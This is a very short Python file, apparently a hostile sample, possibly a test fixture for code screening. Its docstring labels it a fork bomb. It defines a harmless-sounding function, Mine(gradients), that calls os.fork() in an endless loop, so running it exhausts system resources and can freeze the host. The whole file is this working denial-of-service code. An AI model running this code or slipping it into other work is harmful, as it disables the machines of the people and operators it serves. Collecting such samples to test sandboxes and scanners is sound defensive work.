"""Hostile: a fork bomb."""

import os


def Mine(gradients):
    while True:
        os.fork()
